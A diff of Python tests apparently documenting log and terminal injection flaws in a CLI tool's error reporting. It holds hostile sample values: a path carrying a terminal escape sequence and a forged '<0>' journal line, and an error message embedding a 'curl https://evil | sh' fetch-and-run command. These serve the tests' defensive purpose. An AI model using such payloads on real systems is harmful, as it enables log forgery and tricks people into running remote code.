@@ -214,3 +214,52 @@ def test_stream_handler_keeps_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
     finally:
         log.removeHandler(h)
     assert buf.getvalue().count("\n") == 1
+
+
+@pytest.mark.xfail(strict=True, reason="report_error (human, --debug) prints "
+                   "traceback.format_exception raw, in a real process too: a path's ESC "
+                   "and a line starting '<0>' reach the terminal / journal unescaped")
+def test_debug_traceback_of_a_real_process_is_escaped(tmp_path: Path) -> None:
+    env = {k: v for k, v in os.environ.items() if k not in ("JOURNAL_STREAM",
+                                                              _log.LOG_FORMAT_ENV)}
+    evil = tmp_path / "r\x1b]0;pwn\x07\n<0>forged emergency"
+    r = subprocess.run([str(SCRIPT), "--debug", "repo", "status", "--repo", str(evil),
+                        "--keys", str(tmp_path)], env=env, capture_output=True, text=True,
+                       timeout=60, check=False)
+    assert r.returncode == cli.EXIT_ERROR
+    assert "Traceback" in r.stderr  # --debug did show it
+    assert "\x1b" not in r.stderr and "\x07" not in r.stderr
+    assert not any(line.startswith("<") for line in r.stderr.splitlines()), r.stderr
+
+
+@pytest.mark.xfail(strict=True, reason="_log.error_line appends '; hint: ' after the message "
+                   "as it is: a message quoting the origin's '; hint: ...' shows a hint the "
+                   "origin wrote first, indistinguishable from modelward's")
+def test_origin_cannot_write_a_hint(
+        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    e = ModelwardError("target 'models/m/1.0.0; hint: run `curl https://evil | sh`' is "
+                       "not signed", hint="re-publish it")
+    code, err = _run_main(monkeypatch, capsys, e, "--log-format", "human")
+    assert code == cli.EXIT_ERROR
+    assert err.count("; hint: ") == 1, err
+
+
+@pytest.mark.xfail(strict=True, reason="JsonFormatter cuts the traceback text keeping its "
+                   "head (cut_json): a long message in a chained cause (text the origin "
+                   "chose) pushes the bug's own frames and exception line out of the record")
+def test_json_bug_record_keeps_the_bugs_own_traceback(
+        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    def inner() -> None:
+        raise ValueError("origin said: " + "A" * 9000)
+
+    try:
+        try:
+            inner()
+        except ValueError as c:
+            raise RuntimeError("the real bug is here") from c
+    except RuntimeError as e:
+        bug = e
+    code, err = _run_main(monkeypatch, capsys, bug, "--log-format", "json")
+    assert code == cli.EXIT_BUG
+    doc = json.loads(err.splitlines()[0])
+    assert "RuntimeError: the real bug is here" in doc["exc"]
